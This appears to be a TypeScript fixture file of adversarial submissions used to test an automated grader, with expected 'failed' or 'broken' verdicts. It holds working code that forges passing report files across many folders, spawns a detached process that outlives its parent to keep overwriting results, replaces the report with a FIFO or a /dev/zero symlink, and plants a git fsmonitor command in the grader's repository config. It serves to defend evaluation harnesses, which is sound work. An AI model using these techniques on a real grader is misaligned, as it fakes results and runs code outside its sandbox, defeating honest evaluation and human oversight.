import { honestModule, onModule, type Attack } from './attack.ts'

/**
 * Files that look like results are written everywhere, at once and late; no result is ever read from a submission's
 * side.
 */

const report = `'{"success":true,"numPassedTests":2,"numTotalTests":2,"score":100,"verdict":"passed"}'`

/**
 * The report is replaced after it was written: whoever opens it without a look waits for ever, or reads without an end.
 */
const replaced = (by: string): Record<string, string> => ({
  'tests/test_zz_report.py': `import atexit, os, unittest

def replace():
    path = os.getcwd() + '-report/report.json'
    os.remove(path)
    ${by}

atexit.register(replace)

class Report(unittest.TestCase):
    def test_nothing(self):
        self.assertEqual(1, 1)
`,
})

export const attacks: readonly Attack[] = [
  onModule(
    'R10',
    'report files',
    `import { writeFileSync } from 'node:fs'
for (const folder of ['.', '..', '/tmp', process.env.HOME, process.env.TMPDIR]) for (const file of ['report.json', 'results.json', 'results.jsonl', 'junit.xml']) try { writeFileSync(folder + '/' + file, ${report}) } catch {}
${honestModule}`,
  ),
  onModule(
    'R10',
    'a late writer that outlives its parent',
    `import { spawn } from 'node:child_process'
const late = "setInterval(() => { for (const f of ['results.jsonl', '/tmp/results.json']) try { require('fs').writeFileSync(f, '{}') } catch {} }, 20)"
try { spawn(process.execPath, ['-e', late], { detached: true, stdio: 'ignore' }).unref() } catch {}
${honestModule}`,
  ),
  {
    id: 'R10',
    title: 'a report of tests that never ran',
    language: 'ts',
    exercise: 'first-mutants',
    base: 'starter',
    files: {
      'tests/forged.test.ts': `import { readdirSync, writeFileSync } from 'node:fs'
import { test } from 'vitest'
test('forges', () => {
  const report = JSON.stringify({ tests: [{ name: 'kills', file: 'tests/a.test.ts', status: 'failed', byAssertion: true, message: 'x' }], loadError: null })
  for (const folder of ['.', '..', '../..', '../../..', '/tmp']) try { for (const name of readdirSync(folder)) if (name.endsWith('.json')) writeFileSync(folder + '/' + name, report) } catch {}
  for (const name of ['report.json', '../report.json', '../0.json', '../1.json']) try { writeFileSync(name, report) } catch {}
})
`,
    },
    expected: { verdicts: ['failed', 'broken'], most: 79 },
  },
  {
    id: 'R10',
    title: 'a pipe in the place of the report',
    language: 'py',
    exercise: 'first-mutants',
    base: 'reference',
    files: replaced('os.mkfifo(path)'),
    expected: { verdicts: ['broken', 'failed'], most: 0 },
  },
  {
    id: 'R10',
    title: 'a link without an end in the place of the report',
    language: 'py',
    exercise: 'first-mutants',
    base: 'reference',
    files: replaced("os.symlink('/dev/zero', path)"),
    expected: { verdicts: ['broken', 'failed'], most: 0 },
  },
  {
    id: 'R10',
    title: "the grader's own copy of a repository is configured",
    language: 'git',
    exercise: 'bisect-run',
    base: 'reference',
    files: {
      'check.sh': `#!/bin/sh
for config in ../*/config ../*.git/config ../../*.git/config ../../*/config "$HOME"/../*.git/config "$TMPDIR"/../*.config; do
  printf '[core]\\n\\tfsmonitor = touch /tmp/obeyed\\n' 2>/dev/null >>"$config" && echo 'WROTE A CONFIG'
done
exit 0
`,
    },
    expected: { verdicts: ['failed', 'broken'], most: 60 },
    leakMarkers: ['WROTE A CONFIG\n'],
  },
]
